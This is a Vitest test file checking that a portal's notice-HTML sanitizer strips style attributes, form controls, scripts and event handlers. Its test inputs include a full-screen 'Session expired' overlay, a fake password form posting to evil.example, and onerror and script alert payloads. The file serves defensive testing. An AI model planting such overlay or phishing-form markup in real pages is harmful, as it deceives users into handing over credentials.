import { describe, expect, it } from 'vitest';
import { sanitizeToFragment } from './sanitized-html';

function sanitized(html: string): string {
  const box = document.createElement('div');
  box.append(sanitizeToFragment(html));
  return box.innerHTML;
}

describe('notice HTML', () => {
  it('keeps the text and formatting staff write', () => {
    expect(
      sanitized('<h2>Holiday</h2><p>Closed on <b>1 May</b>, see <a href="https://x.example/a">details</a>.</p>'),
    ).toBe('<h2>Holiday</h2><p>Closed on <b>1 May</b>, see <a href="https://x.example/a">details</a>.</p>');
  });

  it('drops style attributes, so a notice cannot lay itself over the portal', () => {
    const html = sanitized(
      '<div style="position:fixed;inset:0;z-index:9999;background:#fff">Session expired</div><p style="display:none">x</p>',
    );
    expect(html).toBe('<div>Session expired</div><p>x</p>');
  });

  it('drops form controls and buttons, keeping no field to type a password into', () => {
    const html = sanitized(
      '<p>Log in again:</p><form action="https://evil.example"><label>Password <input type="password" name="pw"></label>' +
        '<select><option>1</option></select><textarea>t</textarea><button>Sign in</button></form><p>end</p>',
    );
    expect(html).not.toMatch(/<(form|input|select|option|textarea|button|label)\b/);
    expect(html).toContain('<p>Log in again:</p>');
    expect(html).toContain('<p>end</p>');
  });

  it('still strips scripts and event handlers', () => {
    expect(sanitized('<img src="x.png" onerror="alert(1)"><script>alert(2)</script>')).toBe('<img src="x.png">');
  });
});
